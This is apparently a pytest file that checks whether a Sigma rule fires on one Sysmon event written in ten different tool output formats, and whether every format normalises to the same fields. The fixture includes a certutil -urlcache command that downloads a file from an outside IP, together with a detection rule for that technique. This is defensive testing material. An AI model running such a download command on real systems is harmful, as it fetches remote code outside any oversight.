"""One event as different tools print it: the same rules fire, and people read the same of it."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from collectors.catalog import PARSERS, guess
from detectors.sigma.load import load_texts
from detectors.sigma.match import Matcher
from yunshao.model.event import Event

CHANNEL, PROVIDER = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
DATA: dict[str, Any] = {
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://203.0.113.8/a a",
    "User": "CITY\\li",
    "ProcessId": 3412,
    "ProcessGuid": "{0197231e-9be6-6934-5301-000000000b00}",
    "ParentImage": "C:\\Windows\\explorer.exe",
    "ParentProcessId": 1092,
}
TIME = "2026-01-02T03:04:05.649Z"
SYSTEM = {"Channel": CHANNEL, "Computer": "ws-12", "EventRecordID": 7}
RULE = """
title: A download by certutil
id: 4d1a8d1a-6f0b-4a4e-9d0b-6a6a54a1c001
level: high
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\\\certutil.exe'
    CommandLine|contains: urlcache
    Provider_Name: Microsoft-Windows-Sysmon
    Computer: ws-12
  condition: selection
"""
SHAPES: dict[str, dict[str, Any]] = {
    "attributes in #attributes": {
        "Event": {
            "System": {
                **SYSTEM,
                "EventID": 1,
                "Provider": {"#attributes": {"Name": PROVIDER}},
                "TimeCreated": {"#attributes": {"SystemTime": TIME}},
            },
            "EventData": DATA,
        }
    },
    "attributes beside": {
        "Event": {
            "System": {
                **SYSTEM,
                "EventID": 1,
                "Provider_attributes": {"Name": PROVIDER},
                "TimeCreated_attributes": {"SystemTime": TIME},
            },
            "EventData": DATA,
        },
        "Event_attributes": {"xmlns": "x"},
    },
    "attributes with @ and named elements": {
        "Event": {
            "System": {
                **SYSTEM,
                "EventID": {"@Qualifiers": "", "#text": "1"},
                "Provider": {"@Name": PROVIDER},
                "TimeCreated": {"@SystemTime": TIME},
            },
            "EventData": {"Data": [{"@Name": name, "#text": str(value)} for name, value in DATA.items()]},
        }
    },
    "winlog": {
        "@timestamp": TIME,
        "winlog": {
            "event_id": "1",
            "channel": CHANNEL,
            "provider_name": PROVIDER,
            "computer_name": "ws-12",
            "record_id": 7,
            "event_data": DATA,
        },
    },
    "winlog with dots": {
        "@timestamp": TIME,
        "winlog.event_id": 1,
        "winlog.channel": CHANNEL,
        "winlog.provider_name": PROVIDER,
        "winlog.computer_name": "ws-12",
        "winlog.record_id": 7,
        **{f"winlog.event_data.{name}": value for name, value in DATA.items()},
    },
    "an older beat": {
        "@timestamp": TIME,
        "event_id": 1,
        "log_name": CHANNEL,
        "source_name": PROVIDER,
        "computer_name": "ws-12",
        "record_number": "7",
        "event_data": DATA,
    },
    "flat": {
        "EventID": 1,
        "Channel": CHANNEL,
        "SourceName": PROVIDER,
        "Hostname": "ws-12",
        "RecordNumber": 7,
        "TimeCreated": TIME,
        **DATA,
    },
    "data as JSON in a text": {
        "EventId": 1,
        "Channel": CHANNEL,
        "Provider": PROVIDER,
        "Computer": "ws-12",
        "EventRecordId": 7,
        "TimeCreated": TIME,
        "Payload": orjson.dumps(
            {"EventData": {"Data": [{"@Name": k, "#text": str(v)} for k, v in DATA.items()]}}
        ).decode(),
    },
    "an agent": {
        "win": {
            "system": {
                "eventID": "1",
                "channel": CHANNEL,
                "providerName": PROVIDER,
                "computer": "ws-12",
                "eventRecordID": "7",
                "systemTime": TIME,
            },
            "eventdata": {f"{name[0].lower()}{name[1:]}": value for name, value in DATA.items()},
        }
    },
    "an index export": {
        "_index": "logs",
        "_source": {
            "@timestamp": TIME,
            "winlog": {
                "event_id": 1,
                "channel": CHANNEL,
                "provider_name": PROVIDER,
                "computer_name": "ws-12",
                "record_id": 7,
                "event_data": DATA,
            },
        },
    },
}


def read(shape: dict[str, Any]) -> Event:
    parser = PARSERS["windows.event"]
    native = parser.decode(orjson.dumps(shape), "")
    identity = parser.identify(native)
    return Event(parser.source, identity.uid, identity.time, native, parser.normalise)


@pytest.mark.parametrize("shape", SHAPES.values(), ids=list(SHAPES))
def test_a_rule_fires_whichever_tool_printed_the_event(shape: dict[str, Any]) -> None:
    loaded = load_texts([("rule.yml", RULE.encode())], {})
    assert [rule.title for rule in Matcher(loaded.rules).matches(read(shape))] == ["A download by certutil"]


@pytest.mark.parametrize("shape", SHAPES.values(), ids=list(SHAPES))
def test_every_shape_tells_the_same(shape: dict[str, Any]) -> None:
    event = read(shape)
    assert guess(orjson.dumps(shape), "") == "windows.event"
    assert event.time == 1_767_323_045_649
    assert event.uid == "ws-12/Microsoft-Windows-Sysmon/Operational/7/1767323045649"
    assert event.ocsf["class_uid"] == 1007
    assert event.ocsf["device"]["hostname"] == "ws-12"
    assert event.ocsf["process"]["pid"] == 3412
    assert event.ocsf["process"]["parent_process"]["pid"] == 1092
    assert event.ocsf["actor"]["user"] == {"name": "li", "domain": "CITY"}
